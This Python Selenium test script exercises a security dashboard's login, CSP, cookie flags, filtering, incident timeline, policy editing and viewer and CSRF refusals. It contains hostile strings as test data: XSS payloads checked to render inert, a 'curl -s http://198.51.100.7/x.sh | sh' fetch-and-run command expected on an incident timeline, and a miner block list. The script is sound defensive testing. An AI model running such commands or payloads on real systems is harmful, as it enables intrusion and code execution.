#!/usr/bin/env python3
"""Drives the dashboard in headless Debian chromium (Selenium): login, filters, incident, viewer
refused, hostile events inert, CSP present, live updates, logout. Screenshots go to argv[5].

usage: dashboard_test.py BASE ADMIN_TOKEN VIEWER_TOKEN GROUP_TOKEN SCREENSHOT_DIR
Prints one line per check; exits 1 with the failed check's message."""
import json, os, sys, time, urllib.request, urllib.error
from selenium import webdriver
from selenium.webdriver.chrome.service import Service
from selenium.webdriver.common.by import By
from selenium.webdriver.support.ui import WebDriverWait
from selenium.common.exceptions import NoAlertPresentException, StaleElementReferenceException, TimeoutException

base, admin, viewer, group_token, shots = sys.argv[1:6]
failures = []

def check(cond, what):
    print(("ok   " if cond else "FAIL ") + what, flush=True)
    if not cond:
        failures.append(what)

def http(method, path, token=None, body=None, headers=None):
    req = urllib.request.Request(base + path, method=method, data=None if body is None else json.dumps(body).encode())
    if token: req.add_header("Authorization", "Bearer " + token)
    if body is not None: req.add_header("Content-Type", "application/json")
    for k, v in (headers or {}).items(): req.add_header(k, v)
    try:
        with urllib.request.urlopen(req, timeout=10) as r: return r.status, dict(r.headers), r.read()
    except urllib.error.HTTPError as e: return e.code, dict(e.headers), e.read()

options = webdriver.ChromeOptions()
options.binary_location = "/usr/bin/chromium"
for a in ["--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--window-size=1280,800", "--lang=en-US"]:
    options.add_argument(a)
options.set_capability("goog:loggingPrefs", {"browser": "ALL"})
driver = webdriver.Chrome(service=Service("/usr/bin/chromedriver"), options=options)
# The pages re-render as their data arrives: an element found a moment ago may be gone; look again.
wait = WebDriverWait(driver, 10, ignored_exceptions=(StaleElementReferenceException,))

def shot(name):
    path = os.path.join(shots, name + ".png")
    driver.save_screenshot(path)

def settle(selector="main h1"):
    wait.until(lambda d: d.find_elements(By.CSS_SELECTOR, selector))
    wait.until(lambda d: not [e for e in d.find_elements(By.CSS_SELECTOR, "main p.muted") if e.text == "Loading…"])
    time.sleep(0.3)

def no_alert():
    try:
        driver.switch_to.alert
        return False
    except NoAlertPresentException:
        return True

def inert(page):
    """Nothing from the hostile events became markup or ran."""
    check(no_alert(), page + ": no alert dialog")
    check(driver.execute_script("return window.__pwned === undefined"), page + ": window.__pwned is undefined")
    injected = driver.execute_script("""
        var bad = [];
        document.querySelectorAll('main img, main iframe, main object, main embed, main script, main svg script, main [onerror], main [onload], main [onclick], main [style*="url"]').forEach(function (e) { bad.push(e.outerHTML.slice(0, 80)); });
        document.querySelectorAll('a[href]').forEach(function (a) { if (!/^(\\/|#|https?:\\/\\/127\\.0\\.0\\.1)/.test(a.getAttribute('href'))) bad.push(a.getAttribute('href')); });
        return bad;""")
    check(injected == [], page + ": no injected element or link " + repr(injected[:3]))

def console_errors():
    return [e["message"] for e in driver.get_log("browser") if e["level"] == "SEVERE" and "favicon" not in e["message"] and "401" not in e["message"] and "403" not in e["message"]]

try:
    # CSP and friends on the HTML, checked on the wire.
    status, headers, _ = http("GET", "/")
    csp = headers.get("Content-Security-Policy", "")
    check(status == 200 and "default-src 'none'" in csp and "script-src 'self'" in csp and "frame-ancestors 'none'" in csp and "unsafe" not in csp, "CSP header on / : " + csp)

    # Not logged in: any page goes to the login form.
    t0 = time.time()
    driver.get(base + "/events")
    wait.until(lambda d: d.find_elements(By.ID, "token"))
    check("/login" in driver.current_url, "an anonymous visit lands on /login")
    shot("01-login")
    driver.find_element(By.ID, "token").send_keys("kit_not_a_token")
    driver.find_element(By.ID, "login-submit").click()
    wait.until(lambda d: d.find_elements(By.CSS_SELECTOR, ".error"))
    check("not a live API token" in driver.find_element(By.CSS_SELECTOR, ".error").text, "a wrong token is refused with a clear message")
    driver.find_element(By.ID, "token").clear()
    driver.find_element(By.ID, "token").send_keys(admin)
    driver.find_element(By.ID, "login-submit").click()
    wait.until(lambda d: "/events" in d.current_url and d.find_elements(By.CSS_SELECTOR, "main table"))
    settle()
    check(driver.find_element(By.ID, "role").text == "admin", "logged in as admin, back on the page asked for")
    cookies = driver.get_cookies()
    session = [c for c in cookies if c["name"] == "kitsune_session"]
    check(len(session) == 1 and session[0]["httpOnly"] and session[0].get("sameSite") == "Strict", "session cookie is HttpOnly, SameSite=Strict")
    check(driver.execute_script("return document.cookie.indexOf('kitsune_session') < 0"), "the page's script cannot read the session cookie")
    inert("events")
    page_text = driver.find_element(By.TAG_NAME, "main").text
    check("<script>alert(1)</script>" in page_text, "the hostile argv is shown as text")
    check("U+202E" in page_text, "a bidi override is shown as a visible marker")
    shot("03-events")

    # Detail of the hostile event: the whole event, rendered inert.
    row = [r for r in driver.find_elements(By.CSS_SELECTOR, "main tbody tr") if "<img src=x" in r.text]
    check(bool(row), "the <img onerror> event is listed")
    if row:
        row[0].find_elements(By.TAG_NAME, "td")[4].click()
        try:
            wait.until(lambda d: d.find_elements(By.CSS_SELECTOR, "#detail pre"))
        except TimeoutException:
            print("browser log:", driver.get_log("browser"))
            raise
        inert("event detail")
        check("onerror" in driver.find_element(By.CSS_SELECTOR, "#detail pre").text, "the detail shows the raw event as text")
        shot("04-event-detail-hostile")

    # Filter: the bar maps onto the URL and the API.
    driver.get(base + "/events")
    settle()
    box = driver.find_element(By.CSS_SELECTOR, "input[name=function]")
    box.send_keys("payments")
    driver.find_element(By.CSS_SELECTOR, ".filters button[type=submit]").click()
    wait.until(lambda d: "function=payments" in d.current_url)
    settle()
    fns = [r.find_elements(By.TAG_NAME, "td")[3].text for r in driver.find_elements(By.CSS_SELECTOR, "main tbody tr")]
    check(fns and all(f == "payments" for f in fns), "filtering by function shows only payments (%d rows)" % len(fns))
    driver.get(driver.current_url)   # shared link: the same view after a reload
    settle()
    check(driver.find_element(By.CSS_SELECTOR, "input[name=function]").get_attribute("value") == "payments", "the filter survives a reload of the URL")

    # Live: a new event appears without a reload.
    driver.execute_script("window.__sameDocument = 1")
    stamp = time.strftime("%Y-%m-%dT%H:%M:%S.000Z", time.gmtime())
    http("POST", "/api/v1/events", group_token, [{"time": stamp, "action": "blocked", "reason": "drift", "function_name": "payments",
          "executable": "/tmp/live-marker", "argv": ["/tmp/live-marker"], "instance_id": "f" * 32, "seq": 99}])
    try:
        WebDriverWait(driver, 15, ignored_exceptions=(StaleElementReferenceException,)).until(lambda d: "/tmp/live-marker" in d.find_element(By.TAG_NAME, "main").text)
        appeared = True
    except TimeoutException:
        appeared = False
    check(appeared and driver.execute_script("return window.__sameDocument === 1"), "a new event appears without a reload")
    shot("05-events-filtered-live")

    # Incident: the invocation's timeline.
    driver.get(base + "/incidents")
    settle()
    inert("incidents")
    shot("06-incidents")
    link = [a for a in driver.find_elements(By.CSS_SELECTOR, "main a") if "request req-incident-1" in a.text]
    check(bool(link), "the incident is listed by its request id")
    if link:
        link[0].click()
        wait.until(lambda d: d.find_elements(By.CSS_SELECTOR, "ol.timeline li"))
        settle()
        text = driver.find_element(By.TAG_NAME, "main").text
        check("curl -s http://198.51.100.7/x.sh | sh" in text, "the timeline shows the injected command")
        check("touched: /tmp/backup/.aws/credentials" in text, "the timeline says the honeypot was touched")
        check(len(driver.find_elements(By.CSS_SELECTOR, "ol.timeline li")) >= 3, "started, blocked and honeypot entries")
        inert("incident timeline")
        shot("07-incident-timeline")

    for path, name in [("/", "02-overview"), ("/functions", "08-functions"), ("/policies", "09-policies"), ("/groups", "10-groups"),
                       ("/alerts", "11-alerts"), ("/audit", "12-audit")]:
        driver.get(base + path)
        settle()
        inert(path)
        shot(name)
    driver.get(base + "/policies")
    settle()
    policies_text = driver.find_element(By.TAG_NAME, "main").text
    policies_api = http("GET", "/api/v1/policies", admin)[0]
    check(("not available on this server" in policies_text) if policies_api == 404 else ("New policy" in policies_text),
          "the policies page fits the server's API (GET /api/v1/policies: %d)" % policies_api)
    if policies_api == 200:
        # Edit and save a policy in the page: the enforcer's parser refuses a typo by name, then a
        # valid document is saved, and an edit of it becomes version 2.
        def type_policy(text):
            area = wait.until(lambda d: d.find_element(By.ID, "policy-yaml"))
            driver.execute_script("arguments[0].value = ''", area)
            area.send_keys(text)
        driver.get(base + "/policies?new=")
        wait.until(lambda d: d.find_elements(By.ID, "policy-yaml"))
        type_policy('name: web-api\nmode: audit\nscope:\n  functions: ["*"]\nblokc: [xmrig*]\n')
        driver.find_element(By.ID, "save-policy").click()
        try:
            wait.until(lambda d: "blokc" in d.find_element(By.TAG_NAME, "main").text and "unknown" in d.find_element(By.TAG_NAME, "main").text)
            check(True, "the page shows the enforcer parser's refusal naming the field")
        except TimeoutException:
            check(False, "the page shows the enforcer parser's refusal naming the field")
        check(http("GET", "/api/v1/policies/web-api", admin)[0] == 404, "a refused policy is not saved")
        type_policy('name: web-api\nmode: audit\nscope:\n  functions: ["*"]\nblock: [xmrig*]\n')
        driver.find_element(By.ID, "save-policy").click()
        wait.until(lambda d: "id=" in d.current_url)
        settle()
        status, _, body = http("GET", "/api/v1/policies/web-api", admin)
        check(status == 200 and json.loads(body).get("version") == 1, "the policy saved from the page is version 1")
        type_policy('name: web-api\nmode: audit\nscope:\n  functions: ["*"]\nblock: [xmrig*, "kdevtmpfsi"]\n')
        driver.find_element(By.ID, "save-policy").click()
        wait.until(lambda d: json.loads(http("GET", "/api/v1/policies/web-api", admin)[2]).get("version") == 2)
        check(True, "an edit saved from the page becomes version 2")
        settle()
        shot("09b-policy-edited")
        inert("policy page")
    driver.get(base + "/")
    settle()
    check(bool(driver.find_elements(By.CSS_SELECTOR, "svg.chart rect.b")), "the overview draws the hourly chart as SVG")
    check("is not enforced on" in driver.find_element(By.TAG_NAME, "main").text, "fleet health names the controls off")
    before = driver.find_element(By.ID, "tz").text
    driver.find_element(By.ID, "tz").click()
    settle()
    check(driver.find_element(By.ID, "tz").text != before, "the time zone toggle switches UTC/local")
    driver.find_element(By.ID, "tz").click()

    # Narrow window.
    driver.set_window_size(480, 900)
    driver.get(base + "/events")
    settle()
    overflow = driver.execute_script("return document.documentElement.scrollWidth - window.innerWidth")
    check(overflow <= 2, "no sideways scrolling at 480 px (%d px over)" % overflow)
    shot("13-events-narrow")
    driver.set_window_size(1280, 800)

    # Keyboard: g e goes to events; focus is visible.
    driver.get(base + "/")
    settle()
    driver.find_element(By.TAG_NAME, "body").send_keys("g", "e")
    wait.until(lambda d: d.current_url.endswith("/events"))
    check(True, "keyboard shortcut g e opens the events")

    errors = console_errors()
    check(not [e for e in errors if "Content Security Policy" in e or "TrustedHTML" in e or "Trusted Type" in e], "no CSP or Trusted Types violation: " + repr(errors[:3]))

    # Logout: the cookie no longer works.
    driver.find_element(By.ID, "logout").click()
    wait.until(lambda d: "/login" in d.current_url)
    status = driver.execute_async_script("var done = arguments[0]; fetch('/api/v1/session').then(function (r) { done(r.status); });")
    check(status == 401, "after logout the session is gone (%s)" % status)

    # A viewer: no edit controls, and the server refuses the write anyway.
    wait.until(lambda d: d.find_elements(By.ID, "token"))
    driver.find_element(By.ID, "token").send_keys(viewer)
    driver.find_element(By.ID, "login-submit").click()
    wait.until(lambda d: d.find_elements(By.ID, "role"))
    driver.get(base + "/groups")
    settle()
    check(not driver.find_elements(By.ID, "new-group") and not driver.find_elements(By.CSS_SELECTOR, "button.danger"), "a viewer sees no create or delete controls")
    shot("14-groups-viewer")
    status = driver.execute_async_script("var done = arguments[0]; K.api('POST', '/enforcer-groups', {json: {name: 'viewer-made'}}).then(function () { done(200); }, function (e) { done(e.status); });")
    check(status == 403, "the server refuses a viewer's write made with a valid CSRF token (%s)" % status)
    status = driver.execute_async_script("var done = arguments[0]; fetch('/api/v1/enforcer-groups', {method: 'POST', headers: {'Content-Type': 'application/json'}, body: '{\"name\":\"x\"}'}).then(function (r) { done(r.status); });")
    check(status == 403, "a write with the cookie but without the CSRF header is refused (%s)" % status)
finally:
    driver.quit()

if failures:
    print("screenshots in", shots)
    print("FAILED: " + "; ".join(failures))
    sys.exit(1)
print("all browser checks passed")
